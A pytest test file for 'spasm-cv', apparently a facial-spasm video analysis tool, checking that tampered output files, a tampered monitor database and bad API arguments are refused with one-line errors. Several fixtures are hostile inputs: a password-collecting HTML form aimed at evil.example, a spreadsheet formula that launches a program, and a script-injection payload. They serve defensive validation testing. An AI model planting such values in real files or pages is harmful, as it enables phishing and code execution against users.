"""Issue 22, items 9 and 10: what spasm-cv reads is checked against one schema per file kind
(the one its writers use), and the Python API checks its arguments as the command line does.

Item 9: an edited or damaged summary.json, events.tsv, signals.csv.gz or monitor database is
refused in one line naming the file and the field, by ``load``, ``load_db``, ``report`` and
``export``; never believed (a report of "277777778 h observed"), never a raw KeyError.
Item 10: ``analyze_video(..., mirrored="no")`` is refused, not taken as true.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import math
import sqlite3
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from conftest import cli
from fuzzing import fresh_copy, make_db, simulated_detection, synthetic_result

from spasm_cv.errors import SpasmCvError


@pytest.fixture(scope="session")
def valid_result(tmp_path_factory) -> Path:
    return synthetic_result(tmp_path_factory.mktemp("valid"))


@pytest.fixture(scope="session")
def valid_monitor_db(tmp_path_factory) -> Path:
    return make_db(tmp_path_factory.mktemp("db") / "monitor.sqlite", simulated_detection().events)


def _one_line(code: int, err: str, *words: str) -> str:
    assert code == 2, err
    assert "Traceback" not in err and "internal error" not in err, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("spasm-cv: error: "), err
    for w in words:
        assert w in lines[0], lines[0]
    return lines[0]


def _refused_everywhere(folder: Path, tmp_path: Path, *words: str) -> None:
    """``load`` raises SpasmCvError; ``report`` and every ``export`` say one line (exit 2)."""
    import spasm_cv

    with pytest.raises(SpasmCvError) as info:
        spasm_cv.load(folder).signals  # noqa: B018
    for w in words:
        assert w in str(info.value), str(info.value)
    _one_line(*cli("report", folder, "--out", tmp_path / "r.html")[::2], *words)
    for fmt in ("csv", "json", "bids", "elan"):
        _one_line(*cli("export", folder, "--format", fmt, "--out", tmp_path / fmt)[::2], *words)
    assert not (tmp_path / "r.html").exists()


SUMMARY_EDITS = {
    "observed_s 1e12": (("observed_s",), 1e12),
    "observed_s NaN": (("observed_s",), math.nan),
    "observed_s -5": (("observed_s",), -5),
    "observed_s beyond the duration": (("observed_s",), 4000.0),
    "schema_version 9.0": (("schema_version",), "9.0"),
    "duration_s abc": (("duration_s",), "abc"),
    "input a string": (("input",), "visit.mp4"),
    "fps 0": (("fps",), 0),
    "episodes total count -3": (("episodes", "total", "count"), -3),
    "per_hour infinite": (("episodes", "by_side", "right", "per_hour"), math.inf),
    "affected_side up": (("affected_side",), "up"),
    "recorded_at garbage": (("recorded_at",), "garbage"),
    "complete 'yes'": (("complete",), "yes"),
    "blinks missing": (("blinks",), None),
    "possible count -1": (("possible", "left", "count"), -1),
    "possible a list": (("possible",), [1, 2]),
    "corrupt_s NaN": (("quality", "corrupt_s"), math.nan),
    "frozen_frames 'many'": (("quality", "frozen_frames"), "many"),
}


@pytest.mark.parametrize("edit", SUMMARY_EDITS, ids=list(SUMMARY_EDITS))
def test_an_edited_summary_is_refused_naming_file_and_field(edit, valid_result, tmp_path):
    keys, value = SUMMARY_EDITS[edit]
    folder = fresh_copy(valid_result, tmp_path / "in" / "visit.spasm-cv")
    doc = json.loads((folder / "summary.json").read_text())
    parent = doc
    for k in keys[:-1]:
        parent = parent[k]
    if value is None:
        del parent[keys[-1]]
    else:
        parent[keys[-1]] = value
    (folder / "summary.json").write_text(json.dumps(doc))
    _refused_everywhere(folder, tmp_path, "summary.json", keys[0])


EVENT_EDITS = {
    "onset -50": ("onset", "-50"),
    "side up": ("side", "up"),
    "kind as a form": ("kind", '<form action="https://evil.example/"><input name=pw></form>'),
    "regions as a formula": ("regions", "=cmd|' /C calc'!A0"),
    "trial_type unknown": ("trial_type", "sneeze"),
    "context unknown": ("context", "<script>alert(1)</script>"),
    "n_contractions abc": ("n_contractions", "abc"),
    "brow_raised maybe": ("brow_raised", "maybe"),
    "confidence 7": ("confidence", "7"),
    "duration NaN": ("duration", "NaN"),
    "onset beyond the recording": ("onset", "5000"),
}


@pytest.mark.parametrize("edit", EVENT_EDITS, ids=list(EVENT_EDITS))
def test_an_edited_event_is_refused_naming_file_and_field(edit, valid_result, tmp_path):
    column, text = EVENT_EDITS[edit]
    folder = fresh_copy(valid_result, tmp_path / "in" / "visit.spasm-cv")
    rows = [r.split("\t") for r in (folder / "events.tsv").read_text().splitlines()]
    j = rows[0].index(column)
    spasm = next(i for i, r in enumerate(rows) if r[rows[0].index("trial_type")] == "spasm")
    rows[spasm][j] = text
    (folder / "events.tsv").write_text("\n".join("\t".join(r) for r in rows) + "\n")
    words = ("events.tsv",) if column == "onset" and text == "5000" else ("events.tsv", column)
    _refused_everywhere(folder, tmp_path, *words)


def _edit_signals(folder: Path, column: str, text: str) -> None:
    p = folder / "signals.csv.gz"
    rows = [r.split(",") for r in gzip.decompress(p.read_bytes()).decode().splitlines()]
    rows[5][rows[0].index(column)] = text
    p.write_bytes(gzip.compress(("\n".join(",".join(r) for r in rows) + "\n").encode()))


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("time", "abc"),
        ("time", "-1e12"),
        ("closure_right", "inf"),
        ("measurable_left", "7"),
        ("quality", "<b>ok</b>"),
    ],
)
def test_edited_signals_are_refused_naming_file_and_column(column, text, valid_result, tmp_path):
    folder = fresh_copy(valid_result, tmp_path / "in" / "visit.spasm-cv")
    _edit_signals(folder, column, text)
    _refused_everywhere(folder, tmp_path, "signals.csv.gz", column)


def test_unknown_well_formed_quality_flags_are_read(valid_result, tmp_path):
    """A newer spasm-cv may flag frames ``corrupt`` or ``frozen``: read like any flag."""
    import spasm_cv

    folder = fresh_copy(valid_result, tmp_path / "in" / "visit.spasm-cv")
    _edit_signals(folder, "quality", "frozen+corrupt")
    flags = [set(q.split("+")) for q in spasm_cv.load(folder).signals["quality"]]
    assert {"frozen", "corrupt"} in flags  # read as the two flags (written in their order)
    assert cli("export", folder, "--format", "bids", "--out", tmp_path / "b").returncode == 0


def test_writers_use_the_readers_schema(valid_result, tmp_path):
    from dataclasses import replace

    from spasm_cv.results.files import write_events
    from spasm_cv.results.recording import Recording

    rec = Recording.from_folder(valid_result)
    with pytest.raises(SpasmCvError, match="side"):
        write_events(tmp_path / "events.tsv", [replace(rec.events[0], side="up")])
    with pytest.raises(SpasmCvError, match="observed_s"):
        replace(rec.summary, observed_s=math.nan).to_dict()
    assert rec.summary.to_dict()["observed_s"] == rec.summary.observed_s


# ------------------------------------------------------------------------ monitor database


DB_EDITS = {
    "started_at garbage": ("UPDATE sessions SET started_at='garbage'", "sessions", "started_at"),
    "fps NaN-like text": ("UPDATE sessions SET fps='NaN'", "sessions", "fps"),
    "source_kind unknown": (
        "UPDATE sessions SET source_kind='<b>x</b>'",
        "sessions",
        "source_kind",
    ),
    "settings not JSON": ("UPDATE sessions SET settings='{nope'", "sessions", "settings"),
    "side up": ("UPDATE events SET side='up'", "events", "side"),
    "kind as a form": ("UPDATE events SET kind='<form action=x></form>'", "events", "kind"),
    "brow_raised 7": ("UPDATE events SET brow_raised=7", "events", "brow_raised"),
    "observed_s 1e12": ("UPDATE minutes SET observed_s=1e12", "minutes", "observed_s"),
    "episodes -1": ("UPDATE minutes SET episodes=-1", "minutes", "episodes"),
    "gap start_s text": ("UPDATE gaps SET start_s='abc'", "gaps", "start_s"),
}


@pytest.mark.parametrize("edit", DB_EDITS, ids=list(DB_EDITS))
def test_an_edited_monitor_database_is_refused_naming_table_and_column(
    edit, valid_monitor_db, tmp_path
):
    from spasm_cv.live.dataframes import load_db

    sql, table, column = DB_EDITS[edit]
    db = fresh_copy(valid_monitor_db, tmp_path / "monitor.sqlite")
    with contextlib.closing(sqlite3.connect(db, isolation_level=None)) as c:
        c.execute(sql)
    with pytest.raises(SpasmCvError) as info:
        load_db(db)
    for w in ("monitor.sqlite", table, column):
        assert w in str(info.value), str(info.value)
    _one_line(*cli("report", "--db", db, "--out", tmp_path / "r.html")[::2], table, column)
    for fmt in ("csv", "json", "bids"):
        _one_line(
            *cli("export", "--db", db, "--format", fmt, "--out", tmp_path / fmt)[::2], table, column
        )


def test_one_rule_for_the_database_versions_readers_take(valid_monitor_db, tmp_path):
    """``load_db``, ``report --db`` and ``export --db`` take the same versions: 1 to the
    current one (an older store read as if migrated); 0 and newer ones refused alike."""
    from spasm_cv.live.dataframes import load_db
    from spasm_cv.live.schema import SCHEMA_VERSION

    for version in (0, SCHEMA_VERSION + 1):
        db = fresh_copy(valid_monitor_db, tmp_path / f"v{version}.sqlite")
        with contextlib.closing(sqlite3.connect(db, isolation_level=None)) as c:
            c.execute(f"PRAGMA user_version={version}")
        with pytest.raises(SpasmCvError, match=f"schema {version}"):
            load_db(db)
        _one_line(
            *cli("report", "--db", db, "--out", tmp_path / "r.html")[::2], f"schema {version}"
        )
        _one_line(
            *cli("export", "--db", db, "--format", "csv", "--out", tmp_path / "c")[::2],
            f"schema {version}",
        )

    # schema 1: before events.context; every reader reads it (context n/a)
    db = fresh_copy(valid_monitor_db, tmp_path / "v1.sqlite")
    with contextlib.closing(sqlite3.connect(db, isolation_level=None)) as c:
        c.execute("ALTER TABLE events DROP COLUMN context")
        c.execute("PRAGMA user_version=1")
    assert load_db(db).schema_version == 1
    assert cli("report", "--db", db, "--out", tmp_path / "v1.html").returncode == 0
    assert cli("export", "--db", db, "--format", "csv", "--out", tmp_path / "v1").returncode == 0


def test_readme_states_the_schema_versions_the_code_reads():
    from conftest import REPO

    from spasm_cv.live.schema import SCHEMA_VERSION
    from spasm_cv.results.summary import SCHEMA_VERSION as SUMMARY_VERSION

    readme = (REPO / "README.md").read_text()
    assert f"## Output contract (schema {SUMMARY_VERSION})" in readme
    assert f"### The monitor database (schema version {SCHEMA_VERSION})" in readme


# ------------------------------------------------------------------------------ Python API


MISSING = "no-such-video.mp4"  # arguments are checked before the video is looked at


@pytest.mark.parametrize(
    ("arguments", "field"),
    [
        ({"mirrored": "no"}, "mirrored"),
        ({"mirrored": 1}, "mirrored"),
        ({"progress": "yes"}, "progress"),
        ({"write": "false"}, "write"),
        ({"jobs": True}, "jobs"),
        ({"jobs": 0}, "jobs"),
        ({"recorded_at": datetime(2026, 3, 4, 9, 30)}, "recorded_at"),  # naive
        ({"recorded_at": datetime(1800, 1, 1, tzinfo=timezone.utc)}, "recorded_at"),
        ({"recorded_at": datetime.now(timezone.utc) + timedelta(days=800)}, "recorded_at"),
        ({"recorded_at": "2026-03-04T09:30+00:00"}, "recorded_at"),
        ({"params": {"closure_on": 0.4}}, "params"),
    ],
)
def test_analyze_video_checks_its_arguments_as_the_cli_does(arguments, field):
    import spasm_cv

    with pytest.raises(SpasmCvError, match=f"analyze_video: {field}"):
        spasm_cv.analyze_video(MISSING, **{"write": False, **arguments})
    if field == "mirrored":
        with pytest.raises(SpasmCvError, match=f"extract_signals: {field}"):
            spasm_cv.extract_signals(MISSING, **arguments)


def test_cli_and_api_take_the_same_years(tmp_path):
    latest = datetime.now().year + 1
    err = cli("analyze", MISSING, "--recorded-at", f"{latest + 1}-01-01T00:00")[2]
    assert f"1970-{latest}" in err
    with pytest.raises(SpasmCvError, match=f"1970-{latest}"):
        import spasm_cv

        spasm_cv.analyze_video(
            MISSING, write=False, recorded_at=datetime(latest + 1, 1, 1, tzinfo=timezone.utc)
        )


@pytest.mark.parametrize("value", ["0.5", True, math.nan, 2])
def test_load_checks_min_confidence(value, valid_result):
    import spasm_cv

    with pytest.raises(SpasmCvError, match="min_confidence"):
        spasm_cv.load(valid_result, min_confidence=value)


@pytest.mark.parametrize("bound", [20260101, 2026.5, True])
def test_load_db_checks_its_bounds(bound, valid_monitor_db):
    from spasm_cv.live.dataframes import load_db

    with pytest.raises(SpasmCvError, match="since/until"):
        load_db(valid_monitor_db, since=bound)
